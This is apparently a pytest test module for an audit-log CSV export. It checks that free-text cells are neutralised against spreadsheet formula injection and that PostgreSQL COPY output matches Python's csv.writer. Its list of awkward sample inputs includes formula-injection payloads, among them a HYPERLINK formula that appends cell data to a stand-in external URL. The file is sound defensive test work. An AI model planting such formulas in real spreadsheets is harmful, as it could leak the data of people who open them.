"""CSV cells are built by hand (for speed: bench/export.py), and on PostgreSQL by the
server's COPY; both must give exactly the bytes `csv.writer` gives for the neutralised
cells, the bytes every earlier export was written in (docs/audit-format.md, 12.4)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.audit.chain import append_event, chain_head
from app.audit.events import EventType
from app.audit.export import (
    WRITERS,
    ExportFormat,
    ExportTally,
    csv_lines,
    postgres_csv_chunks,
    stream_rows,
)
from app.audit.filters import AuditFilters
from app.extensions import db
from tests.audit_export.conftest import COLUMNS, TRIGGERS
from tests.audit_export.test_jsonl import _event, _storable

#: The columns the format neutralises (12.4: every text field but the hashes and time).
FREE_TEXT = (
    "event_type",
    "actor_email",
    "request_reference",
    "from_status",
    "to_status",
    "stage",
    "comment",
    "client_address",
    "correlation_id",
)

#: A row as stream_rows gives it.
ROW: dict[str, Any] = {
    "seq": 7,
    "occurred_at": "2026-07-02T09:00:00.000000Z",
    "event_type": "changes_requested",
    "actor_id": 4,
    "actor_email": "approver@example.gov.uk",
    "actor_roles": '["approver"]',
    "request_id": 2,
    "request_reference": "PRQ-2026-00002",
    "from_status": "in_review",
    "to_status": "changes_requested",
    "stage": "security",
    "comment": "Say who moderates out of hours",
    "payload": '{"outcome":"request_changes","version":3}',
    "client_address": "203.0.113.24",
    "correlation_id": "5f0c9e1a2b3d4c6e",
    "prev_hash": "a" * 64,
    "hash": "b" * 64,
}

AWKWARD = [
    "plain",
    "a,b",
    'say "hi"',
    '"',
    '""',
    ",",
    "line\nbreak",
    "carriage\rreturn",
    "windows\r\nbreak",
    "\n",
    "=1+2",
    "+44 20 7946 0000, call me",
    "-2+3",
    "@SUM(A1)",
    "\tindented",
    "\rstarts with CR",
    "'already quoted",
    "'=looks neutralised",
    "'",
    "=",
    '=HYPERLINK("http://x.example/?a="&A1,"Click")',
    "Siân Ó Briain",
    "张伟 同意",
    "Looks good 🎉👩🏽‍💻",
    "back\\slash",
    "bell\x07 escape\x1b unit\x1f del\x7f nel\x85",
    "ls\u2028 ps\u2029",
    " leading space",
    "trailing space ",
    "nul\x00byte",
    "",
]


def by_csv_writer(rows: Iterable[tuple[Any, ...]]) -> str:
    """The reference: free-text cells neutralised (a "'" before a formula trigger or a
    quote), then every cell written by csv.writer, lines ending CRLF."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(
            [
                "'" + cell if name in FREE_TEXT and cell and cell.startswith(TRIGGERS) else cell
                for name, cell in zip(COLUMNS, row, strict=True)
            ]
        )
    return buffer.getvalue()


def row_with(**values: Any) -> tuple[Any, ...]:
    return tuple({**ROW, **values}[name] for name in COLUMNS)


@pytest.mark.parametrize("value", [None, *AWKWARD])
@pytest.mark.parametrize("column", FREE_TEXT)
def test_a_free_text_cell_is_what_csv_writer_writes_once_it_is_neutralised(
    column: str, value: str | None
):
    row = row_with(**{column: value})
    assert csv_lines([row]) == by_csv_writer([row])


@pytest.mark.parametrize("value", AWKWARD)
@pytest.mark.parametrize("column", ["occurred_at", "actor_roles", "payload", "prev_hash", "hash"])
def test_the_other_text_cells_are_quoted_as_csv_writer_quotes_them(column: str, value: str):
    # Never neutralised (the format only neutralises free text), only quoted if need be.
    row = row_with(**{column: value})
    assert csv_lines([row]) == by_csv_writer([row])


@pytest.mark.parametrize("actor_id", [None, 0, 1, 2**31 - 1])
@pytest.mark.parametrize("request_id", [None, 42])
def test_integer_cells_are_digits_and_null_is_an_empty_cell(
    actor_id: int | None, request_id: int | None
):
    row = row_with(seq=2**53 + 1, actor_id=actor_id, request_id=request_id)
    assert csv_lines([row]) == by_csv_writer([row])


_cell = st.one_of(
    st.none(),
    st.text(st.one_of(st.characters(exclude_categories=("Cs",)), st.sampled_from(',"\r\n')))
    | st.tuples(st.sampled_from(TRIGGERS), st.text()).map("".join),
)


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(st.fixed_dictionaries({name: _cell for name in FREE_TEXT}), max_size=5))
def test_any_free_text_gives_csv_writer_s_bytes_and_reads_back(cells: list[dict[str, Any]]):
    rows = [row_with(**values) for values in cells]
    written = csv_lines(rows)

    assert written == by_csv_writer(rows)
    assert len(list(csv.reader(io.StringIO(written, newline="")))) == len(rows)


def test_the_writer_opens_with_a_bom_and_the_header_row():
    (opening,) = WRITERS[ExportFormat.CSV].chunks([])
    assert opening == b"\xef\xbb\xbf" + by_csv_writer([COLUMNS]).encode("ascii")


# PostgreSQL: COPY writes the same bytes. ---------------------------------------------


def both_writers() -> tuple[bytes, bytes]:
    """The whole trail as CSV, by the Python writer and by PostgreSQL's COPY."""
    head = chain_head(db.session)[0]
    rows = stream_rows(db.session, AuditFilters(), up_to_seq=head)
    by_python = b"".join(WRITERS[ExportFormat.CSV].chunks(rows))
    tally = ExportTally()
    by_copy = b"".join(postgres_csv_chunks(db.session, AuditFilters(), up_to_seq=head, tally=tally))
    assert (tally.count, tally.first_seq, tally.last_seq) == (head, 1, head)
    return by_python, by_copy


@pytest.mark.postgresql_only  # COPY is PostgreSQL's
@pytest.mark.usefixtures("app")
def test_postgresql_copy_writes_what_the_python_writer_writes():
    # PostgreSQL text cannot hold U+0000; Permit stores null rather than empty text.
    for value in [v for v in AWKWARD if v and "\x00" not in v]:
        code = value[:32]  # the status and stage columns' size
        append_event(
            db.session,
            EventType.REQUEST_WITHDRAWN,
            from_status=code,
            to_status=code,
            stage=code,
            comment=value,
            payload={"text": value},
        )
    by_python, by_copy = both_writers()
    assert by_copy == by_python


@pytest.mark.postgresql_only  # COPY is PostgreSQL's
@pytest.mark.usefixtures("app")
def test_postgresql_copy_keeps_crlf_inside_cells_and_ends_every_row_with_crlf():
    append_event(db.session, EventType.REQUEST_WITHDRAWN, comment="one\ntwo\r\nthree\rfour")
    append_event(db.session, EventType.REQUEST_WITHDRAWN, comment="\n")
    by_python, by_copy = both_writers()
    assert by_copy == by_python
    assert b'"one\ntwo\r\nthree\rfour"' in by_copy and by_copy.endswith(b"\r\n")


@pytest.mark.postgresql_only  # COPY is PostgreSQL's
@pytest.mark.usefixtures("app")
def test_postgresql_copy_hands_over_chunks_and_counts_across_them(monkeypatch):
    monkeypatch.setattr("app.audit.export.COPY_CHUNK_BYTES", 200)
    for number in range(12):
        append_event(db.session, EventType.SIGNED_OUT, comment=f"number {number}")
    head = chain_head(db.session)[0]
    tally = ExportTally()
    chunks = list(postgres_csv_chunks(db.session, AuditFilters(), up_to_seq=head, tally=tally))
    assert len(chunks) > 3
    assert (tally.count, tally.first_seq, tally.last_seq) == (12, 1, 12)
    by_python, _ = both_writers()
    assert b"".join(chunks) == by_python


@pytest.mark.postgresql_only  # COPY is PostgreSQL's
@pytest.mark.usefixtures("app")
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(events=st.lists(_event, min_size=1, max_size=4))
def test_postgresql_copy_matches_the_python_writer_for_any_event(
    backend: str, events: list[dict[str, Any]]
):
    try:
        for event in events:
            append_event(db.session, **_storable(event, backend))
        by_python, by_copy = both_writers()
    finally:
        db.session.rollback()  # every example starts from an empty chain
    assert by_copy == by_python


@pytest.mark.postgresql_only  # COPY is PostgreSQL's
@pytest.mark.usefixtures("app")
def test_a_copy_abandoned_part_way_leaves_the_session_usable(monkeypatch):
    # A browser that drops a download closes the generator in the middle of the COPY.
    monkeypatch.setattr("app.audit.export.COPY_CHUNK_BYTES", 200)
    for number in range(20):
        append_event(db.session, EventType.SIGNED_OUT, comment=f"number {number}")
    chunks = postgres_csv_chunks(db.session, AuditFilters(), up_to_seq=20, tally=ExportTally())
    next(chunks), next(chunks)
    chunks.close()

    assert chain_head(db.session)[0] == 20
